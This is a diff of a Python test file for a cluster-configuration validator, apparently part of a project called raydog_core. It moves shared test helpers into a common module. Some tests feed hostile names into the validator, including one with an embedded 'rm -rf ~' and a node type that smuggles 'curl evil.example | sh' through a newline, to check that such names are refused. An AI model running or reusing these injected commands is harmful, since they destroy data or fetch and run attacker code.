@@ -6,46 +6,14 @@ from __future__ import annotations
 
 import os
 import stat
-import subprocess
-import sys
 from pathlib import Path
 from typing import Any
 
 import pytest
-import yaml
-from ray.autoscaler._private.commands import create_or_update_cluster
 
 from raydog_core import ConfigError
+from tests.commands import ray_up, raydog, write_config
 from tests.conftest import memory_cluster_config
-
-
-def raydog(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
-    return subprocess.run(
-        [sys.executable, "-m", "raydog_core.cli", *args],
-        capture_output=True,
-        text=True,
-        timeout=300,
-        cwd=cwd,
-    )
-
-
-def write(tmp_path: Path, config: dict[str, Any]) -> Path:
-    path = tmp_path / "cluster.yaml"
-    path.write_text(yaml.safe_dump(config))
-    return path
-
-
-def ray_up(path: Path) -> None:
-    create_or_update_cluster(
-        str(path),
-        override_min_workers=None,
-        override_max_workers=None,
-        no_restart=False,
-        restart_only=False,
-        yes=True,
-        no_config_cache=True,
-    )
-
 
 # --- names ----------------------------------------------------------------------------------
 
@@ -56,7 +24,7 @@ BAD_NAMES = ["../../x", "/etc/raydog", "a\nrm -rf ~", "..", "-rf", "sp ace", "x"
 def test_a_cluster_name_that_would_escape_its_folder_or_script_is_refused(
     tmp_path: Path, raydog_home: Path, name: str
 ) -> None:
-    path = write(tmp_path, memory_cluster_config(name))
+    path = write_config(tmp_path, memory_cluster_config(name))
     result = raydog("validate", str(path))
     assert result.returncode == 2
     assert result.stderr.startswith("error: cluster_name: "), result.stderr
@@ -72,7 +40,7 @@ def test_a_node_type_name_with_a_newline_never_reaches_the_setup_script(tmp_path
     config = memory_cluster_config()
     types = config["available_node_types"]
     types["cpu\ncurl evil.example | sh"] = types.pop("cpu")
-    path = write(tmp_path, config)
+    path = write_config(tmp_path, config)
     result = raydog("node-setup", str(path), "--node-type", "head")
     assert result.returncode == 2
     assert result.stdout == ""
@@ -84,7 +52,7 @@ def test_usual_names_are_accepted(tmp_path: Path) -> None:
     config = memory_cluster_config("my_cluster-2.prod")
     types = config["available_node_types"]
     types["ray.worker.gpu-2_x"] = types.pop("cpu")
-    result = raydog("validate", str(write(tmp_path, config)))
+    result = raydog("validate", str(write_config(tmp_path, config)))
     assert result.returncode == 0, result.stderr
 
 
@@ -120,7 +88,7 @@ def test_a_secret_inline_is_refused_with_what_to_write_instead(
 ) -> None:
     config = memory_cluster_config()
     config["provider"][key] = value
-    path = write(tmp_path, config)
+    path = write_config(tmp_path, config)
     result = raydog("validate", str(path))
     assert result.returncode == 2
     assert result.stderr.startswith(f"error: {named}: "), result.stderr
@@ -134,7 +102,7 @@ def test_a_secret_inline_is_refused_with_what_to_write_instead(
 def test_the_url_advice_names_the_tag_stores_option(tmp_path: Path) -> None:
     config = memory_cluster_config()
     config["provider"]["tag_store"] = {"type": "redis", "url": f"rediss://:{SECRET}@h:6380"}
-    result = raydog("validate", str(write(tmp_path, config)))
+    result = raydog("validate", str(write_config(tmp_path, config)))
     assert "Write the URL without the password" in result.stderr
     assert "password_env: NAME" in result.stderr
 
@@ -149,7 +117,7 @@ def test_references_are_accepted(tmp_path: Path) -> None:
     config["provider"]["ray_worker_node_task_script"] = (
         "pip install --index-url https://me:${PYPI_TOKEN}@pypi.example/simple pkg\n"
     )
-    result = raydog("validate", str(write(tmp_path, config)))
+    result = raydog("validate", str(write_config(tmp_path, config)))
     assert result.returncode == 0, result.stderr
 
 
@@ -222,7 +190,7 @@ def test_a_url_password_by_reference_reaches_the_server_and_never_rays_config_ca
 def test_an_infinite_or_nan_number_is_refused(tmp_path: Path, value: float) -> None:
     config = memory_cluster_config()
     config["provider"]["compute"] = {"type": "local", "grace_seconds": value}
-    path = write(tmp_path, config)  # YAML's .inf / .nan
+    path = write_config(tmp_path, config)  # YAML's .inf / .nan
     assert (".inf" if value > 0 else ".nan") in path.read_text()
     result = raydog("validate", str(path))
     assert result.returncode == 2
@@ -235,7 +203,7 @@ def test_the_tag_server_port_given_twice_names_the_flat_key(tmp_path: Path) -> N
     config = memory_cluster_config()
     config["provider"]["tag_store"] = {"type": "valkey", "port": 17000}
     config["provider"]["head_node_tag_server_port"] = 17001
-    result = raydog("validate", str(write(tmp_path, config)))
+    result = raydog("validate", str(write_config(tmp_path, config)))
     assert result.returncode == 2
     assert result.stderr.strip() == (
         "error: provider.head_node_tag_server_port: also given as provider.tag_store.port: "
